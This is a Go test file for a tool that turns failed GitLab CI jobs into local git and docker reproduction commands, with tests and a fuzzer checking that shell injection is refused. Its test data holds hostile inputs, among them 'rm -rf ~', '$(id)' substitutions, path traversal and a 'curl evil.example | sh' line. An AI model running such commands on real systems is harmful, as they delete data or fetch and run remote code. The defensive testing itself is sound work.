package diagnose

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestCheckoutCommand(t *testing.T) {
	tests := []struct {
		sha, want string
	}{
		{"3f9c2e1ab7d04c6e8f51a2b3c4d5e6f708192a3b", "git fetch origin 3f9c2e1ab7d04c6e8f51a2b3c4d5e6f708192a3b && git switch --detach 3f9c2e1ab7d04c6e8f51a2b3c4d5e6f708192a3b"},
		{"9f2c1e7a", "git fetch origin 9f2c1e7a && git switch --detach 9f2c1e7a"},
		{"", ""},
		{"abc", ""},                // too short to name a commit
		{"main", ""},               // a ref, not a commit
		{"9f2c1e7a; rm -rf ~", ""}, // hostile
		{"9f2c1e7a\nid", ""},       // line break
		{"-9f2c1e7a", ""},          // option
		{"9F2C1E7A00", "git fetch origin 9F2C1E7A00 && git switch --detach 9F2C1E7A00"},
	}
	for _, tt := range tests {
		if got := CheckoutCommand(tt.sha); got != tt.want {
			t.Errorf("CheckoutCommand(%q) = %q, want %q", tt.sha, got, tt.want)
		}
	}
}

func TestBuildsPath(t *testing.T) {
	tests := []struct {
		path, want string
	}{
		{"acme/platform/billing-api", "/builds/acme/platform/billing-api"},
		{"/acme/widgets/", "/builds/acme/widgets"},
		{"gitlab-org/gitlab-runner", "/builds/gitlab-org/gitlab-runner"},
		{"a_b/c.d+e", "/builds/a_b/c.d+e"},
		{"", ""},
		{"../etc", ""},
		{"acme/../../etc", ""},
		{"acme/.hidden", ""},
		{"acme//x", ""},
		{"acme/x y", ""},
		{"acme/x:ro", ""},    // would change docker's -v meaning
		{"acme/$(id)", ""},   // shell syntax
		{"acme/x\n/etc", ""}, // line break
		{"acme/-rf", ""},     // GitLab paths do not start with a dash
	}
	for _, tt := range tests {
		if got := BuildsPath(tt.path); got != tt.want {
			t.Errorf("BuildsPath(%q) = %q, want %q", tt.path, got, tt.want)
		}
	}
}

func TestFindCommand(t *testing.T) {
	// From fixtures/gitlab/runner-corpus/log-3 (gitlab-runner, MIT): the
	// runner echoes a multi-line command as its first line.
	codeQuality := "if [ \"$(cat gl-code-quality-report.json)\" != \"[]\" ] ; then\n  exit 1\nfi"
	long := "pytest " + strings.Repeat("tests/test_x.py ", 40)
	lines := []string{
		"go version",
		"go test ./... 2>&1 | tee test.log",
		"go run gotest.tools/gotestsum --junitfile report.xml --raw-command -- cat test.log",
		codeQuality,
		long,
		"  flake8   src/  ",
	}
	tests := []struct {
		name, cmd string
		want      int
	}{
		{"exact", "go test ./... 2>&1 | tee test.log", 1},
		{"the later of two go commands", "go run gotest.tools/gotestsum --junitfile report.xml --raw-command -- cat test.log", 2},
		{"collapsed multi-line", `if [ "$(cat gl-code-quality-report.json)" != "[]" ] ; then # collapsed multi-line command`, 3},
		{"multi-line echoed in full", codeQuality, 3},
		{"cut by the log engine", long[:120] + "…", 4},
		{"spacing differs", "flake8 src/", 5},
		{"not in the script", "make test", -1},
		{"a prefix that was not cut", "go test", -1},
		{"empty", "", -1},
		{"only an ellipsis", "…", -1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := FindCommand(lines, tt.cmd); got != tt.want {
				t.Errorf("FindCommand(%q) = %d, want %d", tt.cmd, got, tt.want)
			}
		})
	}
}

func TestJobScript(t *testing.T) {
	goCfg := &JobConfig{
		BeforeScript: []string{"go version", ""},
		Script: []string{
			"go test ./... 2>&1 | tee test.log",
			"go run gotest.tools/gotestsum --junitfile report.xml --raw-command -- cat test.log",
		},
	}
	pyCfg := &JobConfig{
		BeforeScript: []string{"pip install -r requirements.txt"},
		Script:       []string{"pip install -e .", "make test", "coverage report"},
	}
	goSel := map[string]string{"go": "go test ./parser -run '^TestParseHeader$'"}
	pySel := map[string]string{"pytest": "pytest tests/test_tax.py::test_vat"}
	tests := []struct {
		name      string
		cfg       *JobConfig
		failing   string
		selectors map[string]string
		want      []string
	}{
		{"no configuration", nil, "go test ./...", goSel, nil},
		{"up to the failing command", goCfg, "go test ./... 2>&1 | tee test.log", nil,
			[]string{"go version", "go test ./... 2>&1 | tee test.log"}},
		{"failing command not found: all of it", goCfg, "make lint", nil,
			[]string{"go version", "go test ./... 2>&1 | tee test.log", "go run gotest.tools/gotestsum --junitfile report.xml --raw-command -- cat test.log"}},
		{"failure in before_script", pyCfg, "pip install -r requirements.txt", nil,
			[]string{"pip install -r requirements.txt"}},
		{"selector replaces the first command of its framework", goCfg,
			"go run gotest.tools/gotestsum --junitfile report.xml --raw-command -- cat test.log", goSel,
			[]string{"go version", "go test ./parser -run '^TestParseHeader$'"}},
		{"selector replaces the failing command when no line names the framework", pyCfg, "make test", pySel,
			[]string{"pip install -r requirements.txt", "pip install -e .", "pytest tests/test_tax.py::test_vat"}},
		{"nothing found: before_script, then the selector", pyCfg, "", pySel,
			[]string{"pip install -r requirements.txt", "pytest tests/test_tax.py::test_vat"}},
		{"several frameworks in a stable order", &JobConfig{Script: []string{"npm ci", "npx jest", "pytest"}}, "npx jest",
			map[string]string{"pytest": "pytest a.py::t", "jest": "npx jest a.test.js -t x"},
			[]string{"npm ci", "npx jest a.test.js -t x", "pytest a.py::t"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := JobScript(tt.cfg, tt.failing, tt.selectors)
			if !slices.Equal(got, tt.want) {
				t.Errorf("JobScript = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestScriptShell(t *testing.T) {
	tests := []struct {
		cmds []string
		want string
	}{
		{nil, ""},
		{[]string{"", "  "}, ""},
		{[]string{"a"}, "a"},
		{[]string{" a ", "", "b c"}, "a && b c"},
		{[]string{"a", "if x; then\n  y\nfi"}, "set -e\na\nif x; then\n  y\nfi"},
	}
	for _, tt := range tests {
		if got := ScriptShell(tt.cmds); got != tt.want {
			t.Errorf("ScriptShell(%q) = %q, want %q", tt.cmds, got, tt.want)
		}
	}
}

func TestDockerRunRefuses(t *testing.T) {
	ok := DockerRun{Image: "python:3.12-slim", Workdir: "/builds/acme/app", Script: []string{"pytest"}}
	if ok.Command() == "" {
		t.Fatal("a plain docker line was refused")
	}
	tests := []struct {
		name string
		edit func(d *DockerRun)
	}{
		{"no image", func(d *DockerRun) { d.Image = "" }},
		{"image that is an option", func(d *DockerRun) { d.Image = "--privileged" }},
		{"image with a variable that is an option", func(d *DockerRun) { d.Image = "-$X" }},
		{"image with a command substitution", func(d *DockerRun) { d.Image = "$(id)" }},
		{"image with a default expansion", func(d *DockerRun) { d.Image = "${X:-$(id)}" }},
		{"image with a space", func(d *DockerRun) { d.Image = "alpine sh" }},
		{"image with a line break", func(d *DockerRun) { d.Image = "alpine\nid" }},
		{"nothing to run", func(d *DockerRun) { d.Script = []string{" "} }},
		{"workdir outside /builds", func(d *DockerRun) { d.Workdir = "/etc" }},
		{"workdir climbing out", func(d *DockerRun) { d.Workdir = "/builds/../etc" }},
		{"workdir with a mount option", func(d *DockerRun) { d.Workdir = "/builds/a:rw" }},
		{"empty workdir", func(d *DockerRun) { d.Workdir = "" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := ok
			tt.edit(&d)
			if got := d.Command(); got != "" {
				t.Errorf("Command() = %q, want no line", got)
			}
		})
	}
}

// reproCase is one job of the golden file, built through Build.
type reproCase struct {
	name    string
	job     Job
	cfg     *JobConfig
	tests   []TestCase
	project string
}

func reproCases() []reproCase {
	sha := "3f9c2e1ab7d04c6e8f51a2b3c4d5e6f708192a3b"
	_ = sha
	goJob := Job{ID: 8812345, Name: "unit-tests", PipelineID: 42, Status: StatusFailed, Image: "golang:1.23",
		FailingCommand: "go test ./... 2>&1 | tee test.log"}
	goTests := []TestCase{
		{JobIDs: []int64{8812345}, Classname: "github.com/acme/widgets/parser", Name: "TestParseHeader", Status: TestFailed, Dialect: "gotestsum"},
		{JobIDs: []int64{8812345}, Classname: "github.com/acme/widgets/parser", Name: "TestParseBody/empty", Status: TestFailed, Dialect: "gotestsum"},
	}
	goCfg := &JobConfig{
		Image:        "golang:1.22", // the log's image wins
		BeforeScript: []string{"go version"},
		Script: []string{
			"go test ./... 2>&1 | tee test.log",
			"go run gotest.tools/gotestsum --junitfile report.xml --raw-command -- cat test.log",
		},
		Variables: []string{"GOPROXY", "GOFLAGS", "GOPROXY"},
	}
	pyJob := Job{ID: 5550103, Name: "pytest 1/2", PipelineID: 42, Status: StatusFailed,
		FailingCommand: "pytest --splits $CI_NODE_TOTAL --group $CI_NODE_INDEX --junitxml=reports/junit.xml --tb=short --color=yes"}
	pyTests := []TestCase{
		{JobIDs: []int64{5550103}, Classname: "tests.integration.test_invoices", Name: "test_create_invoice_persists", File: "tests/integration/test_invoices.py", Status: TestFailed, Dialect: "pytest"},
		{JobIDs: []int64{5550103}, Classname: "tests.unit.test_tax", Name: "test_vat_rounding_half_even", File: "tests/unit/test_tax.py", Status: TestFailed, Dialect: "pytest"},
	}
	pyCfg := &JobConfig{
		Image:        "python:3.12-slim",
		Services:     []string{"postgres:16", "redis:7"},
		BeforeScript: []string{"pip install -r requirements.txt"},
		Script:       []string{"pytest --splits $CI_NODE_TOTAL --group $CI_NODE_INDEX --junitxml=reports/junit.xml --tb=short --color=yes"},
		Variables:    []string{"PIP_CACHE_DIR", "DATABASE_URL"},
	}
	lintJob := Job{ID: 5550101, Name: "flake8", PipelineID: 42, Status: StatusFailed, Image: "python:3.12-slim",
		FailingCommand: "flake8 --ignore=E402,E501 src/ tests/"}
	// From fixtures/gitlab/runner-corpus/log-3 (gitlab-runner, MIT).
	cqJob := Job{ID: 7, Name: "code_quality", PipelineID: 42, Status: StatusFailed, Image: "docker:stable",
		FailingCommand: `if [ "$(cat gl-code-quality-report.json)" != "[]" ] ; then # collapsed multi-line command`}
	cqCfg := &JobConfig{
		Image:    "docker:stable",
		Services: []string{"docker:stable-dind"},
		Script: []string{
			"docker run --env SOURCE_CODE=\"$PWD\" --volume \"$PWD\":/code --volume /var/run/docker.sock:/var/run/docker.sock \"registry.gitlab.com/gitlab-org/security-products/codequality:11-8-stable\" /code",
			"if [ \"$(cat gl-code-quality-report.json)\" != \"[]\" ] ; then\n  printf \"There are code quality issues\\n\"\n  exit 1\nfi",
			"echo never reached",
		},
	}
	return []reproCase{
		{name: "go tests, configuration known", job: goJob, cfg: goCfg, tests: goTests},
		{name: "go tests, no configuration", job: goJob, tests: goTests},
		{name: "pytest, image and services from the configuration", job: pyJob, cfg: pyCfg, tests: pyTests},
		{name: "lint, no tests, no configuration", job: lintJob},
		{name: "lint, failing command not in the configuration", job: lintJob,
			cfg: &JobConfig{BeforeScript: []string{"pip install flake8"}, Script: []string{"flake8 src/", "mypy src/"}}},
		{name: "multi-line command", job: cqJob, cfg: cqCfg},
		{name: "no image anywhere", job: Job{ID: 9, Name: "shell runner", PipelineID: 42, Status: StatusFailed, FailingCommand: "make check"},
			cfg: &JobConfig{BeforeScript: []string{"./configure"}, Script: []string{"make", "make check"}}},
		{name: "image from a CI variable", job: Job{ID: 10, Name: "build", PipelineID: 42, Status: StatusFailed, FailingCommand: "make"},
			cfg: &JobConfig{Image: "$CI_REGISTRY_IMAGE/builder:${BUILDER_TAG}", Script: []string{"make"}, Variables: []string{"BUILDER_TAG"}}},
		{name: "project of a multi-project pipeline", project: "acme/docs-site",
			job: Job{ID: 11, Name: "docs:build", PipelineID: 43, ProjectPath: "acme/docs-site", Status: StatusFailed, Image: "python:3.12", FailingCommand: "sphinx-build -W docs public"}},
		{name: "hostile names", project: "../../etc",
			job: Job{ID: 12, Name: "evil\ncurl evil.example | sh", PipelineID: 42, Status: StatusFailed, Image: "--privileged",
				FailingCommand: "echo it's $(id) `id`; rm -rf ~"},
			cfg: &JobConfig{Services: []string{"pg\nrm -rf ~"}, Variables: []string{"OK_NAME", "X; rm -rf ~", "$(id)", "A=B", ""},
				Script: []string{"echo it's $(id) `id`; rm -rf ~"}}},
		{name: "hostile image from the configuration", job: Job{ID: 13, Name: "x", PipelineID: 42, Status: StatusFailed, FailingCommand: "true"},
			cfg: &JobConfig{Image: "alpine' ; touch pwned ; '", Script: []string{"true"}}},
	}
}

func buildRepro(t *testing.T, c reproCase) *Repro {
	t.Helper()
	project := c.project
	if project == "" {
		project = "acme/platform/billing-api"
	}
	ev := Evidence{
		Project: Project{Path: "acme/platform/billing-api"},
		Pipelines: []Pipeline{
			{ID: 42, SHA: "3f9c2e1ab7d04c6e8f51a2b3c4d5e6f708192a3b", Status: StatusFailed, Kind: "root"},
			{ID: 43, SHA: "77aa0c1de2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7", Status: StatusFailed, Kind: "multi-project", ProjectPath: "acme/docs-site"},
		},
		Jobs:  []JobEvidence{{Job: c.job, Config: c.cfg}},
		Tests: c.tests,
	}
	if c.job.ProjectPath == "" && project != "acme/platform/billing-api" {
		ev.Project.Path = project
	}
	r := Build(ev)
	if len(r.Repro) != 1 {
		t.Fatalf("%s: %d repro entries, want 1", c.name, len(r.Repro))
	}
	return &r.Repro[0]
}

// TestLocalRunGolden builds the repro of jobs with and without a CI
// configuration, and prints the shell lines of each.
func TestLocalRunGolden(t *testing.T) {
	var out bytes.Buffer
	for _, c := range reproCases() {
		rp := buildRepro(t, c)
		fmt.Fprintf(&out, "== %s\n", c.name)
		for _, l := range rp.ShellLines() {
			fmt.Fprintln(&out, l)
		}
	}
	assertGolden(t, out.Bytes(), "localrun")
}

func TestLocalRunFields(t *testing.T) {
	cases := reproCases()
	get := func(name string) *Repro {
		for _, c := range cases {
			if c.name == name {
				return buildRepro(t, c)
			}
		}
		t.Fatalf("no case %q", name)
		return nil
	}

	rp := get("pytest, image and services from the configuration")
	if rp.Image != "python:3.12-slim" || rp.Workdir != "/builds/acme/platform/billing-api" {
		t.Errorf("image %q workdir %q", rp.Image, rp.Workdir)
	}
	if !slices.Equal(rp.Variables, []string{"DATABASE_URL", "PIP_CACHE_DIR"}) || !slices.Equal(rp.Services, []string{"postgres:16", "redis:7"}) {
		t.Errorf("variables %q services %q", rp.Variables, rp.Services)
	}
	wantScript := []string{"pip install -r requirements.txt", "pytest tests/integration/test_invoices.py::test_create_invoice_persists tests/unit/test_tax.py::test_vat_rounding_half_even"}
	if !slices.Equal(rp.Script, wantScript) {
		t.Errorf("script = %q", rp.Script)
	}
	if !strings.Contains(rp.Docker, " -e CI=true -e DATABASE_URL -e PIP_CACHE_DIR python:3.12-slim sh -c ") {
		t.Errorf("docker = %q", rp.Docker)
	}

	rp = get("go tests, configuration known")
	if rp.Image != "golang:1.23" {
		t.Errorf("image = %q, want the log's", rp.Image)
	}

	rp = get("project of a multi-project pipeline")
	if rp.SHA != "77aa0c1de2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7" || rp.Workdir != "/builds/acme/docs-site" {
		t.Errorf("sha %q workdir %q: want the job's own pipeline and project", rp.SHA, rp.Workdir)
	}

	rp = get("no image anywhere")
	if rp.Docker != "" || rp.Workdir != "" || !slices.Equal(rp.Script, []string{"./configure", "make", "make check"}) {
		t.Errorf("docker %q workdir %q script %q", rp.Docker, rp.Workdir, rp.Script)
	}

	rp = get("hostile names")
	if rp.Docker != "" {
		t.Errorf("docker line for an image that is an option: %q", rp.Docker)
	}
	if !slices.Equal(rp.Variables, []string{"OK_NAME"}) {
		t.Errorf("variables = %q", rp.Variables)
	}
	for _, l := range rp.ShellLines() {
		if strings.Contains(l, "\n") && !strings.HasPrefix(l, "echo it's") {
			t.Errorf("a line break reached line %q", l)
		}
	}
}

// TestDockerLineThroughShell runs every docker line of the golden cases,
// and docker lines built from hostile scripts, through a real shell with a
// stand-in docker that records its arguments: the shell must hand docker
// exactly the image, the workdir and the script, and run nothing else.
func TestDockerLineThroughShell(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	dir := t.TempDir()
	fake := "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\000' \"$a\"; done\n"
	if err := os.WriteFile(filepath.Join(dir, "docker"), []byte(fake), 0o755); err != nil {
		t.Fatal(err)
	}
	type run struct {
		name   string
		line   string
		image  string
		script string
	}
	var runs []run
	for _, c := range reproCases() {
		rp := buildRepro(t, c)
		if rp.Docker == "" {
			continue
		}
		cmds := rp.Script
		if len(cmds) == 0 {
			cmds = rp.Commands
		}
		img := rp.Image
		img = strings.NewReplacer("$CI_REGISTRY_IMAGE", "registry.example/acme/app", "${BUILDER_TAG}", "1.2").Replace(img)
		runs = append(runs, run{c.name, rp.Docker, img, ScriptShell(cmds)})
	}
	hostile := []string{
		"it's", "$(touch pwned)", "`touch pwned`", "a; touch pwned", "x' && touch pwned '", "a\ntouch pwned",
		`"; touch pwned; "`, `\"; touch pwned; \"`, "$HOME ${HOME} $((1+1))", "echo hi!", "it's !!", "\\", "'", `"`,
	}
	for _, h := range hostile {
		cmds := []string{"echo " + h, "pytest " + ShellQuote("tests/t.py::test_"+h)}
		d := DockerRun{Image: "python:3.12", Workdir: "/builds/acme/app", Variables: []string{"TOKEN"}, Script: cmds}
		runs = append(runs, run{"hostile " + h, d.Command(), "python:3.12", ScriptShell(cmds)})
	}
	for _, r := range runs {
		t.Run(r.name, func(t *testing.T) {
			if r.line == "" {
				t.Fatal("no docker line")
			}
			cmd := exec.Command(sh, "-c", r.line)
			cmd.Dir = dir
			cmd.Env = []string{"PATH=" + dir + string(os.PathListSeparator) + os.Getenv("PATH"), "PWD=" + dir,
				"CI_REGISTRY_IMAGE=registry.example/acme/app", "BUILDER_TAG=1.2", "HOME=/nonexistent"}
			out, err := cmd.Output()
			if err != nil {
				t.Fatalf("sh: %v\nline: %s", err, r.line)
			}
			if _, err := os.Stat(filepath.Join(dir, "pwned")); err == nil {
				os.Remove(filepath.Join(dir, "pwned"))
				t.Fatalf("the line ran a command of its own: %s", r.line)
			}
			args := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
			n := len(args)
			if n < 10 || args[0] != "run" || args[1] != "--rm" || args[2] != "-it" || args[3] != "-v" || args[5] != "-w" {
				t.Fatalf("docker arguments %q", args)
			}
			if !strings.HasPrefix(args[4], dir+":/builds/") || args[4] != dir+":"+args[6] {
				t.Errorf("mount %q, workdir %q", args[4], args[6])
			}
			if args[n-4] != r.image || args[n-3] != "sh" || args[n-2] != "-c" {
				t.Errorf("image and shell %q, want %q sh -c", args[n-4:n-1], r.image)
			}
			if args[n-1] != r.script {
				t.Errorf("script reached docker as\n%q\nwant\n%q", args[n-1], r.script)
			}
			for i := 7; i < n-4; i += 2 {
				if args[i] != "-e" || !reVarName.MatchString(strings.TrimSuffix(args[i+1], "=true")) {
					t.Errorf("environment arguments %q", args[7:n-4])
					break
				}
			}
		})
	}
}

// FuzzDockerRun: whatever the image, project path, variable name and
// script, a docker line is either refused or hands docker exactly the
// expected arguments when a real shell reads it.
func FuzzDockerRun(f *testing.F) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		f.Skip("no sh")
	}
	dir := f.TempDir()
	fake := "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\000' \"$a\"; done\n"
	if err := os.WriteFile(filepath.Join(dir, "docker"), []byte(fake), 0o755); err != nil {
		f.Fatal(err)
	}
	f.Add("python:3.12-slim", "acme/app", "DATABASE_URL", "pytest 'tests/a.py::test_it'")
	f.Add("$CI_REGISTRY_IMAGE/ci:${TAG}", "g/s/p", "TAG", "echo it's $(id) `id`; touch pwned")
	f.Add("--privileged", "../etc", "X; touch pwned", "a\nb")
	f.Add("alpine", "a/b", "A", `"; touch pwned; "`)
	f.Fuzz(func(t *testing.T, image, project, variable, script string) {
		if strings.ContainsRune(image+project+variable+script, 0) {
			return // no process argument can hold a NUL byte
		}
		d := DockerRun{Image: image, Workdir: BuildsPath(project), Variables: []string{variable}, Script: []string{script, "true"}}
		line := d.Command()
		if line == "" {
			return
		}
		cmd := exec.Command(sh, "-c", line)
		cmd.Dir = dir
		cmd.Env = []string{"PATH=" + dir + string(os.PathListSeparator) + os.Getenv("PATH"), "PWD=" + dir}
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("sh: %v\nline: %s", err, line)
		}
		want := []string{"run", "--rm", "-it", "-v", dir + ":" + d.Workdir, "-w", d.Workdir, "-e", "CI=true"}
		if reVarName.MatchString(variable) && variable != "CI" {
			want = append(want, "-e", variable)
		}
		want = append(want, os.Expand(image, func(string) string { return "" }), "sh", "-c", ScriptShell(d.Script))
		got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		if !slices.Equal(got, want) {
			t.Fatalf("line %s\ngave docker %q\nwant %q", line, got, want)
		}
		if _, err := os.Stat(filepath.Join(dir, "pwned")); err == nil {
			t.Fatalf("the line ran a command of its own: %s", line)
		}
	})
}
